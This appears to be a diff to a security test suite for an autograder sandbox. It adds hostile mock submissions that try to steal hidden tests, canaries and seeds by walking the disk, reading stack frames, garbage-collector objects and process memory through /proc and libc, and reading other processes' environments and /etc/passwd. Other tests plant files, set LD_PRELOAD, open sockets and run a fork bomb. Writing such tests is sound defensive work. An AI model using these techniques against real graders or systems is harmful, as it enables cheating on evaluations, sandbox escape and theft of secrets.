@@ -232,108 +232,123 @@ worker.run_probe = lambda *args, **kwargs: runner.Reply(
     fault=runner.Fault("exception", "m" * 9000, "e" * 9000, (frame,) * 20))
 """)
 
-READING = '''
+SEARCHED = "The search has ended."
+"""What a theft says when it was not cut short and has found nothing."""
+
+READING = """
 CANARY = re.compile("CANARY" "-[0-9a-f]{16}")
 SEED = re.compile("SEED" "-[0-9]{15}")
+searched = False
+stolen = set()
 
 def tell(text):
-    """Carry what was found out of the sandbox, in words that a student is shown."""
-    found = sorted({*CANARY.findall(text), *SEED.findall(text)})
-    if found:
-        raise ValueError(" ".join(found)[:250])
-'''
+    stolen.update(CANARY.findall(text), SEED.findall(text))
+
+def lie(value):
+    '''Search once, and carry what was found out in words that a student is shown.'''
+    global searched
+    if searched: return value
+    searched = True
+    try:
+        said = search() or ""
+    finally:
+        if stolen: raise ValueError(" ".join(sorted(stolen))[:450])
+    raise ValueError(f"SEARCHED {said}"[:450])
+
+def follow(*todo):
+    seen = set()
+    while todo:
+        found = []
+        for thing in gc.get_referents(*todo):
+            if id(thing) not in seen:
+                seen.add(id(thing))
+                found.append(thing)
+        texts = [thing for thing in found if type(thing) is str]
+        texts += [thing.decode("latin-1") for thing in found if type(thing) in (bytes, bytearray)]
+        for first in range(0, len(texts), 1000): tell("\\n".join(texts[first : first + 1000]))
+        todo = [thing for thing in found if gc.is_tracked(thing) or type(thing) in (dict, tuple)]
+""".replace("SEARCHED", SEARCHED)
 
 THEFTS = {
     name: READING + text
     for name, text in _programs("""
 ### disk: read hidden tests, references, misconceptions, other submissions and results
-def texts(path):
-    if os.path.isdir(path):
-        for name in os.listdir(path):
-            yield from texts(os.path.join(path, name))
-    else:
-        yield open(path, errors="replace").read()
-def lie(value):
-    for path in (*TOLD["secret"], TOLD["results"], "/autograder", ".", ".."):
-        try:
-            for text in texts(path): tell(text)
-        except OSError:
-            continue
-    return value
+def search():
+    for top in (*TOLD["secret"], TOLD["results"], "/autograder"):
+        for folder, _, names in os.walk(top):
+            for name in names:
+                try: tell(open(os.path.join(folder, name), errors="replace").read(1 << 20))
+                except OSError: continue
 ### frames: read what the callers know
-def lie(value):
+def search():
     frame, seen = sys._getframe(), ""
     while frame:
         seen += repr(frame.f_locals) + repr(frame.f_globals)
         frame = frame.f_back
     tell(seen)
-    raise ValueError(" ".join(re.findall("seed.{1,20}", seen))[:250])
-### objects: look through everything that Python's collector and module table hold
-def lie(value):
-    for holder in (*gc.get_objects(), *sys.modules.values()):
-        try: tell(repr(getattr(holder, "__dict__", None) or holder)[:5000])
-        except ValueError: raise
-        except Exception: continue
-    return value
+    return " ".join(re.findall("seed.{1,20}", seen))
+### objects: follow every reference from what Python's collector and module table hold
+def search(): follow(gc.get_objects(), sys.modules)
 ### collector: bring back what was frozen and left as garbage
-def lie(value):
+def search():
     gc.unfreeze()
+    gc.set_debug(gc.DEBUG_SAVEALL)
     gc.collect()
-    for text in gc.get_objects():
-        if type(text) in (dict, list, tuple):
-            for item in (text.values() if type(text) is dict else text):
-                if type(item) is str: tell(item)
-    return value
+    follow(gc.garbage, gc.get_objects())
 ### memory: read this process's memory, whose pages may be older than the process
-def lie(value):
+def search():
     libc = ctypes.CDLL(None, use_errno=True)
     libc.sbrk.restype = ctypes.c_void_p
     read, write = os.pipe()
     top = libc.sbrk(0)
+    gc.unfreeze()
     pages = set(range((top >> 12) - 20_000, top >> 12))
-    for thing in gc.get_objects():
-        pages.update(range(id(thing) >> 20 << 8, (id(thing) >> 20 << 8) + 256))
+    for place in {id(thing) >> 20 for thing in gc.get_objects()}:
+        pages.update(range(place << 8, (place << 8) + 256))
     tail = b""
-    for page in sorted(pages):
-        if libc.write(write, ctypes.c_void_p(page << 12), 4096) == 4096:
-            data = os.read(read, 4096)
-            tell((tail[-40:] + data).decode("latin-1"))
-            tail = data
-    return value
+    for first in sorted({page >> 4 << 16 for page in pages}):
+        place = first
+        while place < first + (1 << 16):
+            wrote = libc.write(write, ctypes.c_void_p(place), first + (1 << 16) - place)
+            if wrote > 0:
+                tail = tail[-40:] + os.read(read, wrote)
+                tell(tail.decode("latin-1"))
+            place = (place + max(wrote, 0) >> 12) + (wrote <= 0) << 12
 ### own_memory_file: read /proc/self/mem along /proc/self/maps
-def lie(value):
+def search():
     try:
         memory = open("/proc/self/mem", "rb", 0)
-        for line in open("/proc/self/maps"):
-            first, last = (int(end, 16) for end in line.split()[0].split("-"))
-            memory.seek(first)
-            tell(memory.read(min(last - first, 1 << 24)).decode("latin-1"))
+        maps = open("/proc/self/maps").readlines()
     except OSError:
-        pass
-    return value
+        return
+    for line in maps:
+        first, last = (int(end, 16) for end in line.split()[0].split("-"))
+        if line.split()[1].startswith("rw"):
+            for place in range(first, last, 1 << 20):
+                try: tell(os.pread(memory.fileno(), (1 << 20) + 40, place).decode("latin-1"))
+                except (OSError, OverflowError): break
 ### other_processes: read memory, command lines, environments and files of every process
-def lie(value):
+def search():
     for pid in (TOLD["grader"], os.getppid(), 1, "self", *range(2, 200)):
         for name in ("mem", "environ", "cmdline", "maps", "root/etc/passwd", "stack"):
             try: tell(open(f"/proc/{pid}/{name}", errors="replace").read(1 << 20))
             except (OSError, OverflowError): continue
         for descriptor in range(20):
-            try: tell(open(f"/proc/{pid}/fd/{descriptor}", errors="replace").read(1 << 20))
-            except (OSError, ValueError): continue
-    return value
+            try:
+                opened = os.open(f"/proc/{pid}/fd/{descriptor}", os.O_RDONLY | os.O_NONBLOCK)
+                tell(os.read(opened, 1 << 20).decode("latin-1"))
+            except OSError: continue
 ### environment: read the environment and the command line
-def lie(value):
+def search():
     tell(repr(dict(os.environ)) + repr(sys.argv) + repr(sys.orig_argv) + repr(sys.path))
-    return value
 ### imports: import hidden tests, misconceptions and references by name
-def lie(value):
+def search():
     import importlib
     for name in ("graders.hw1_likelihood.test_outliers", "misconceptions.hw1_likelihood.outliers",
                  "grading.reference", "grading.suite", "config"):
         try: module = importlib.import_module("autograder." + name)
         except ImportError: continue
         raise ValueError("CANARY" + "-0123456789abcdef: imported " + module.__name__)
-    return value
 """).items()
 }
 
@@ -375,12 +390,12 @@ for start in (os.fork, lambda: os.posix_spawn("/bin/sleep", ["sleep", "1000"], {
 for act in (os.symlink, os.link, os.rename):
     try: act(TOLD["secret"][0], TOLD["results"] + "/results.json")
     except OSError: pass
-for path in (TOLD["results"] + "/results.json", "/tmp/results.json"):
+for path in (TOLD["results"] + "/results.json", "/tmp/" + TOLD["mark"]):
     try: os.mkfifo(path)
     except OSError: pass
 ### leftovers: leave files and settings for the next submission
-for folder in ("/tmp", "/var/tmp", "/dev/shm", os.environ["TMPDIR"], "."):
-    for name in (TOLD["mark"], "torch.py", "sitecustomize.py"):
+for folder in (*TOLD["open"], os.environ["TMPDIR"], "."):
+    for name in (TOLD["mark"], *TOLD["left"]):
         try: open(os.path.join(folder, name), "w").write("raise SystemExit")
         except OSError: pass
 os.environ["PYTHONPATH"] = os.environ["LD_PRELOAD"] = "/tmp"
@@ -416,8 +431,9 @@ signal.setitimer(signal.ITIMER_REAL, 0.03)
 from multiprocessing import shared_memory
 libc = ctypes.CDLL(None)
 for act in (lambda: shared_memory.SharedMemory(TOLD["mark"], True, 4096).buf,
-            lambda: libc.shmat(libc.shmget(0x5eed, 4096, 0o1666), None, 0),
-            lambda: libc.semget(0x5eed, 1, 0o1666), lambda: libc.msgget(0x5eed, 0o1666),
+            lambda: libc.shmget(TOLD["key"], 4096, 0o1666),
+            lambda: libc.semget(TOLD["key"], 1, 0o1666),
+            lambda: libc.msgget(TOLD["key"], 0o1666),
             lambda: os.memfd_create(TOLD["mark"])):
     try: act()
     except OSError: pass
@@ -425,7 +441,7 @@ for act in (lambda: shared_memory.SharedMemory(TOLD["mark"], True, 4096).buf,
 import resource
 for act in (lambda: resource.setrlimit(resource.RLIMIT_CORE, (-1, -1)),
             lambda: ctypes.CDLL(None).prctl(4, 1, 0, 0, 0),
-            lambda: os.chdir(TOLD["results"])):
+            lambda: os.chdir("/tmp"), lambda: os.chdir(TOLD["results"])):
     try: act()
     except (OSError, ValueError): pass
 def lie(value): os.abort()
@@ -452,9 +468,13 @@ for pid in (TOLD["grader"], os.getppid(), -1, 0, 1):
             else: os.kill(-1, number)
         except OSError: pass
 ### sockets: reach out
-for family, kind in ((2, 1), (2, 2), (10, 1), (1, 1), (16, 3), (17, 3)):
+for family, kind, address in ((2, 1, ("127.0.0.1", TOLD["port"])), (16, 3, (0, 0)),
+                              (2, 2, ("127.0.0.1", TOLD["port"])), (17, 3, ("lo", 0)),
+                              (1, 1, "\\0" + TOLD["mark"])):
     try:
-        with socket.socket(family, kind) as opened: opened.connect(("127.0.0.1", 80))
+        with socket.socket(family, kind) as opened:
+            opened.connect(address)
+            opened.send(b"here")
     except OSError: pass
 ### fork_bomb: start processes without end
 while True:
